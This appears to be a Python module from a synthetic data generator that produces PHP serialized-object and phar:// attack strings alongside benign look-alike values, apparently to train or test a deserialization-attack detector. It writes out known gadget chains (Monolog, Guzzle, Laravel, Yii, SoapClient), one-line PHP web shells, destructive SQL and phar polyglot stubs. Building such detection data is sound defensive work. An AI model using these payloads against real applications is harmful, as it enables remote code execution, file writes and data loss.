"""PHP's serialize() format and phar:// paths. A twin is a value without objects: arrays and scalars, as sessions and caches keep them."""

import base64
import json

from . import grammar, java, lexicon

CLASSES = ("Monolog\\Handler\\SyslogUdpHandler", "Monolog\\Handler\\BufferHandler", "GuzzleHttp\\Psr7\\FnStream", "GuzzleHttp\\Cookie\\FileCookieJar", "GuzzleHttp\\HandlerStack", "Illuminate\\Broadcasting\\PendingBroadcast", "Illuminate\\Events\\Dispatcher", "Illuminate\\Foundation\\Testing\\PendingCommand",
           "Symfony\\Component\\Cache\\Adapter\\ApcuAdapter", "Symfony\\Component\\Process\\Process", "Swift_KeyCache_DiskKeyCache", "Swift_Message", "Zend_Log", "Zend_Db_Profiler", "Laminas\\Http\\Response\\Stream", "Doctrine\\Common\\Cache\\FilesystemCache", "yii\\db\\BatchQueryResult", "yii\\rest\\CreateAction",
           "think\\process\\pipes\\Windows", "think\\model\\Pivot", "CodeIgniter\\Cache\\Handlers\\RedisHandler", "Faker\\Generator", "Faker\\DefaultGenerator", "Requests_Utility_FilteredIterator", "WP_Theme", "WP_Hook", "SplFileObject", "SplObjectStorage", "ArrayObject", "ArrayIterator", "SoapClient", "SimpleXMLElement", "Exception", "Error", "DateTime", "stdClass", "stdClass",
           "__PHP_Incomplete_Class", "PDO", "mysqli", "GlobIterator", "Closure", "TCPDF", "Smarty_Internal_Template", "Twig_Environment", "Drupal\\Core\\Database\\Connection", "Phalcon\\Logger\\Adapter\\File", "Dompdf\\Dompdf", "PHPUnit_Framework_MockObject", "Typo3\\Core\\Log",
           "Monolog\\Handler\\GroupHandler", "Monolog\\Handler\\FingersCrossedHandler", "GuzzleHttp\\Psr7\\AppendStream", "Illuminate\\Validation\\Validator", "Illuminate\\Bus\\Dispatcher", "Illuminate\\Queue\\CallQueuedClosure", "Laravel\\SerializableClosure\\SerializableClosure", "Opis\\Closure\\SerializableClosure", "Symfony\\Component\\Cache\\Traits\\RedisProxy", "Symfony\\Component\\HttpFoundation\\Session\\Session",
           "Symfony\\Component\\Finder\\Iterator\\SortableIterator", "Swift_ByteStream_TemporaryFileByteStream", "Swift_Transport_SendmailTransport", "Mockery\\Loader\\EvalLoader", "PHPUnit\\Framework\\MockObject\\MockClass", "Prophecy\\Argument\\Token\\ExactValueToken", "Slim\\Http\\Response", "Slim\\App", "CakeDC\\Users\\Model", "Cake\\Collection\\Iterator\\MapReduce",
           "craft\\db\\Connection", "yii\\caching\\FileCache", "yii\\base\\View", "Kohana_Exception", "Horde_Kolab_Server_Decorator_Clean", "JDatabaseDriverMysqli", "JSimplepieFactory", "SimplePie", "Archive_Tar", "Crypt_GPG", "phpseclib\\Net\\SSH1", "TYPO3\\CMS\\Core\\FormProtection\\InstallToolFormProtection", "Magento\\Sales\\Model\\Order\\Payment\\Transaction", "Credis_Client",
           "Zend\\Log\\Writer\\Mail", "Zend_Memory_Manager", "Assetic\\Asset\\FileAsset", "League\\Flysystem\\Cached\\Storage\\Adapter", "Doctrine\\ORM\\Query", "Nette\\Utils\\Callback", "Ratchet\\Server", "WP_Block_Patterns_Registry", "WC_Log_Handler_File", "Elementor\\Plugin", "PluginSession", "CachedFile", "Logger", "FileLogger", "TempFile", "Template", "Session", "User", "Cache", "Config", "Database", "Image", "Page", "Request", "Command", "Shell", "Upload", "Mailer")
SPOTS = ("file", "filename", "path", "tmp", "cache", "log", "logfile", "cmd", "command", "func", "callback", "method", "args", "code", "data", "source", "template", "url", "host", "query", "sql", "handler", "events", "event", "process", "formatters", "options", "config", "value", "content", "stream", "isAdmin", "role", "admin", "username", "user_id", "hook", "exec", "body", "dir", "target", "_fn_close", "storage", "store", "adapter", "driver")


def text(value):
    return f's:{len(value.encode("utf-8", "surrogatepass"))}:"{value}";'


def scalar(rng, attack=False):
    draw = rng.random()
    if draw < 0.05 and attack:
        return slashed(lexicon.word(rng))
    if draw < 0.35:
        return text(grammar.load("common").expand("unixcmd0" if attack and rng.random() < 0.5 else "plainvalue", rng))
    if draw < 0.6:
        return f"i:{rng.randint(-5, 99999)};"
    if draw < 0.75:
        return f"b:{rng.randint(0, 1)};"
    if draw < 0.85:
        return rng.choice((f"d:{rng.randint(0, 999)}.{rng.randint(0, 99)};", f"d:{rng.randint(0, 99)};", "d:INF;", "d:-INF;", "d:NAN;", f"d:{rng.randint(1, 9)}.{rng.randint(0, 99)}E-{rng.randint(1, 9)};"))
    return "N;"


def slashed(value):
    """PHP 6's string S, in which a backslash and two hexadecimal digits stand for a byte."""
    return f'S:{len(value)}:"' + "".join(f"\\{ord(char):02x}" for char in value) + '";'


def array(rng, depth, inner):
    count = rng.randint(0 if depth else 1, 4)
    body = ""
    for index in range(count):
        key = f"i:{index};" if rng.random() < 0.5 else text(lexicon.ident(rng))
        body += key + (array(rng, depth + 1, inner) if depth < 2 and rng.random() < 0.2 else inner(rng))
    return f"a:{count}:{{{body}}}"


def class_name(rng):
    draw = rng.random()
    if draw < 0.55:
        return rng.choice(CLASSES)
    if draw < 0.7:
        return "\\".join(lexicon.word(rng).title() for _ in range(rng.randint(2, 4))) + rng.choice(("Handler", "Loader", "Writer", "Proxy", "", "", "Cache", "Model", "Stream", "F", "A"))
    return rng.choice((lexicon.ident(rng).title().replace("_", ""), lexicon.word(rng).title() + "\\" + lexicon.ident(rng).title(), lexicon.ident(rng)))


def property_name(rng, owner):
    name = lexicon.ident(rng) if rng.random() < 0.5 else rng.choice(SPOTS)
    return rng.choice((name, name, name, f"\0*\0{name}", f"\0{owner}\0{name}"))


def instance(rng, depth=0):
    name = class_name(rng)
    draw = rng.random()
    if draw < 0.03:  # an enumeration's case, PHP 8.1
        case = f"{name}:{lexicon.word(rng).title()}"
        return f'O:{len(name)}:"{name}":1:{{{text(lexicon.word(rng))}E:{len(case)}:"{case}";}}'
    if draw < 0.07:
        data = array(rng, 1, scalar)
        return f'C:{len(name)}:"{name}":{len(data)}:{{{data}}}'
    count = rng.choice((0, 1, 1, 1, 2, 2, 3, 4))
    body = ""
    for _ in range(count):
        draw = rng.random()
        content = instance(rng, depth + 1) if depth < 3 and draw < 0.3 else array(rng, 1, lambda r: scalar(r, True)) if draw < 0.45 else f"{rng.choice('Rr')}:{rng.randint(1, 9)};" if draw < 0.47 else f'a:2:{{i:0;{instance(rng, 3)}i:1;{text(rng.choice(("close", "run", "render", "__toString", "invoke", lexicon.ident(rng))))}}}' if depth < 2 and draw < 0.49 else text(payload(rng)) if draw < 0.75 else scalar(rng, True)
        body += text(property_name(rng, name)) + content
    sign = "+" if rng.random() < 0.05 else ""
    letter = "o" if rng.random() < 0.02 else "O"
    return f'{letter}:{sign}{len(name)}:"{name}":{count}:{{{body}}}'


def payload(rng):
    common = grammar.load("common")
    return rng.choice((lambda: common.expand("unixcmd0", rng), lambda: common.expand("recon", rng), lambda: common.expand("secret", rng), lambda: f"<?php {rng.choice(('system', 'eval', 'passthru', 'assert'))}($_{rng.choice(('GET', 'POST', 'REQUEST'))}['{lexicon.word(rng)}']);?>", lambda: f"{rng.choice(('phpinfo()', 'system(' + repr(common.expand('recon', rng)) + ')'))};",
                       lambda: rng.choice(("system", "phpinfo", "exec", "assert", "call_user_func", "passthru", "shell_exec", "file_put_contents", "unlink", "readfile", "eval", "create_function")), lambda: f"http://{lexicon.hostport(rng)}/", lambda: lexicon.word(rng),
                       lambda: f"/var/www/html/{lexicon.word(rng)}.php", lambda: f"/tmp/{lexicon.word(rng)}", lambda: f"../{lexicon.word(rng)}.{rng.choice(('php', 'log', 'txt', 'phtml'))}", lambda: f"SELECT * FROM {lexicon.word(rng)}", lambda: f"DELETE FROM {lexicon.word(rng)} WHERE 1=1", lambda: f"{lexicon.word(rng)}.{rng.choice(('php', 'tpl', 'inc'))}", lambda: "php://input"))()


def phar(rng):
    """A phar:// path, below wrappers or not, of an upload that is an archive in disguise."""
    scheme = rng.choice(("phar://", "phar://", "phar://", "PHAR://", "pHaR://", "phar:///", "compress.zlib://phar://", "compress.bzip2://phar://", "php://filter/resource=phar://", "php://filter/read=convert.base64-encode/resource=phar://", "php://filter/convert.quoted-printable-decode/resource=phar://", "glob://phar://", "zlib:phar://"))
    folder = rng.choice(("/tmp/", "./uploads/", "/var/www/html/", "../../", "/proc/self/fd/", "uploads/avatars/", "", "./", "wp-content/uploads/", "storage/app/public/", f"{lexicon.word(rng)}/", f"/home/{lexicon.word(rng)}/public_html/", "/tmp/php", "C:/xampp/tmp/"))
    return scheme + folder + lexicon.ident(rng) + rng.choice((".jpg", ".gif", ".png", ".phar", ".zip", ".pdf", ".tar", ".tar.gz", ".txt", "", ".jpeg", ".csv")) + rng.choice(("/", "/", "", "%2f")) + rng.choice((lexicon.word(rng), "test", "a", "")) + rng.choice(("", ".php", ".txt", ".jpg"))


def archive(rng):
    """The beginning of a phar: its stub, then a manifest that holds a serialized object."""
    return rng.choice(("", "GIF89a", "\x89PNG\r\n", "#!/usr/bin/env php\n")) + rng.choice(("<?php __HALT_COMPILER(); ?>", "<?php\n__HALT_COMPILER();", "<?php echo 1; __halt_compiler(); ?>\r\n")) + rng.choice(("", "\r\n", "\n")) + "".join(chr(rng.randint(0, 40)) for _ in range(8)) + instance(rng) + f"{lexicon.word(rng)}.txt"


def carried(out, rng):
    """A serialized value as applications store and send it; the same for attacks and twins."""
    draw = rng.random()
    if draw < 0.3:
        return java.dressed(out.encode("utf-8", "surrogatepass"), rng)
    if draw < 0.4:
        return base64.b64encode(out.encode("utf-8", "surrogatepass")).decode()
    if draw < 0.44:
        return json.dumps({rng.choice(("data", "value", "meta_value", "option_value", "session", "prefs", lexicon.ident(rng))): out})
    if draw < 0.46:
        return out.replace('"', '\\"')
    if draw < 0.48:
        return f"{rng.choice(('unserialize', 'maybe_unserialize', '@unserialize', 'serialize'))}('{out}')"
    if draw < 0.51:
        return out.replace('"', rng.choice(("&quot;", "%22")))
    if draw < 0.53:
        return lexicon.hexed(out, rng)
    if draw < 0.56:
        return f"{rng.choice(('', lexicon.word(rng) + '='))}{out}{rng.choice(('', ';', '--' + lexicon.hextoken(rng)))}"
    return out


def value(attack, rng):
    if not attack:
        return twin(rng)
    if rng.random() < 0.3:
        return grammar.load("php").expand("attack", rng) if rng.random() < 0.55 else carried(known(rng), rng)
    draw = rng.random()
    if draw < 0.12:
        return phar(rng)
    if draw < 0.14:
        return archive(rng)
    out = instance(rng)
    if draw < 0.35:  # an object within an array, as sessions hold it
        out = array(rng, 0, lambda r: scalar(r))[:-1] + text(lexicon.ident(rng)) + out + "}"
        size, _, rest = out[2:].partition(":")
        out = f"a:{int(size) + 1}:{rest}"
    elif draw < 0.42:
        out = f"{lexicon.ident(rng)}|{out}"
    elif draw < 0.47:
        out = text(out)
    return carried(out, rng)


def pairs(owner, members):
    """The serialized members of an instance; a value that is no text stands as it is."""
    return f'O:{len(owner)}:"{owner}":{len(members)}:{{' + "".join(text(key) + (content if content[:2] in ("O:", "a:", "i:", "b:", "N;") else text(content)) for key, content in members) + "}"


def known(rng):
    """The shapes of public chains: what is called, held by what calls it; and the formats of the SPL's own classes."""
    common = grammar.load("common")
    function, argument = rng.choice(("system", "exec", "passthru", "shell_exec", "assert", "phpinfo")), common.expand("recon", rng)
    file, code = f"/var/www/html/{lexicon.word(rng)}.php", f"<?php system($_GET['{lexicon.word(rng)}']);?>"
    inner = instance(rng, 3)
    custom = lambda owner, body: f'C:{len(owner)}:"{owner}":{len(body.encode())}:{{{body}}}'
    miscounted = class_name(rng)
    listing = lambda *items: f"a:{len(items)}:{{" + "".join(f"i:{index};{item}" for index, item in enumerate(items)) + "}"
    return rng.choice((
        lambda: pairs("Monolog\\Handler\\SyslogUdpHandler", [("\0*\0socket", pairs("Monolog\\Handler\\BufferHandler", [("\0*\0handler", "N;"), ("\0*\0bufferSize", "i:-1;"), ("\0*\0buffer", listing(listing(text(argument)))), ("\0*\0processors", listing(text("current"), text(function)))]))]),
        lambda: pairs("GuzzleHttp\\Cookie\\FileCookieJar", [("\0GuzzleHttp\\Cookie\\FileCookieJar\0filename", file), ("\0GuzzleHttp\\Cookie\\CookieJar\0cookies", listing(pairs("GuzzleHttp\\Cookie\\SetCookie", [("\0GuzzleHttp\\Cookie\\SetCookie\0data", listing(text(code)))])))]),
        lambda: pairs("Illuminate\\Broadcasting\\PendingBroadcast", [("\0*\0events", pairs("Illuminate\\Bus\\Dispatcher", [("\0*\0queueResolver", function)])), ("\0*\0event", pairs("Illuminate\\Broadcasting\\BroadcastEvent", [("connection", argument)]))]),
        lambda: pairs("Swift_KeyCache_DiskKeyCache", [("\0Swift_KeyCache_DiskKeyCache\0_path", file), ("\0Swift_KeyCache_DiskKeyCache\0_keys", listing(text(code)))]),
        lambda: pairs("yii\\db\\BatchQueryResult", [("\0yii\\db\\BatchQueryResult\0_dataReader", pairs("Faker\\Generator", [("\0*\0formatters", listing(text(function)))]))]),
        lambda: pairs("SoapClient", [("uri", lexicon.word(rng)), ("location", f"http://127.0.0.1:{rng.randint(1, 65535)}/{lexicon.word(rng)}"), ("_user_agent", f"{lexicon.word(rng)}\r\nX-{lexicon.word(rng).title()}: 1"), ("_soap_version", "i:1;")]),
        lambda: custom("SplObjectStorage", f"x:i:1;{inner},a:0:{{}};m:a:0:{{}}"),
        lambda: custom("ArrayObject", f"x:i:0;a:1:{{i:0;{inner}}};m:a:0:{{}}"),
        lambda: f'O:13:"ArrayIterator":4:{{i:0;i:0;i:1;a:1:{{i:0;{inner}}}i:2;a:0:{{}}i:3;N;}}',
        lambda: f'O:{len(miscounted)}:"{miscounted}":{rng.randint(3, 9)}:{{{text(rng.choice(SPOTS))}{text(payload(rng))}}}',  # more members said than there are: __wakeup is not called
        lambda: f'}}__{lexicon.word(rng)}|{inner}',
        lambda: listing(inner, text(lexicon.word(rng))),
        lambda: f'{lexicon.ident(rng)}|{scalar(rng)}{lexicon.ident(rng)}|{inner}',
    ))()


def twin(rng):
    if rng.random() < 0.22:
        return grammar.load("php").expand("twin", rng)
    draw = rng.random()
    common = grammar.load("common")
    if draw < 0.45:
        return carried(array(rng, 0, scalar), rng)
    if draw < 0.55:
        return "".join(f"{lexicon.ident(rng)}|{scalar(rng)}" for _ in range(rng.randint(1, 3)))
    if draw < 0.57:
        return java.dressed(json.dumps({lexicon.ident(rng): rng.choice((lexicon.word(rng), rng.randint(0, 9999), True, None)) for _ in range(rng.randint(1, 4))}).encode(), rng)
    if draw < 0.6:
        return java.dressed(common.expand("prose", rng).encode(), rng)
    if draw < 0.64:
        return scalar(rng) + rng.choice(("", ";")) + common.expand("plainvalue", rng)
    if draw < 0.72:
        return f"O: {common.expand('prose', rng)} a:{rng.randint(1, 9)}"
    if draw < 0.76:
        return f"{rng.choice(('O', 'C', 'a', 's', 'i', 'b', 'R', 'E', 'N'))}:{rng.randint(1, 99)}{rng.choice((':', ';', '', '-'))}{rng.choice((lexicon.word(rng), lexicon.token(rng), str(rng.randint(0, 9999)), ''))}"
    if draw < 0.78:
        return f"{rng.choice(('pharmacy', 'phare', 'pharaoh', 'phar'))} {common.expand('prose', rng)} {rng.choice(('https://', 's3://', 'file:'))}{lexicon.host(rng)}/uploads/{lexicon.word(rng)}.{rng.choice(('jpg', 'zip', 'tar.gz', 'phar'))}"
    if draw < 0.82:
        return f'{lexicon.ident(rng)}:{{{lexicon.ident(rng)}:"{lexicon.word(rng)}";{lexicon.ident(rng)}:{rng.randint(0, 99)}}}'
    if draw < 0.9:
        return "; ".join(f"{lexicon.word(rng)}:{rng.randint(0, 99)}:{lexicon.word(rng)}" for _ in range(rng.randint(1, 5)))
    return f"{lexicon.word(rng).title()} Object ( [{lexicon.word(rng)}] => {lexicon.word(rng)} ) {common.expand('prose', rng)}"


def put(attack, carrier, rng):
    return ""
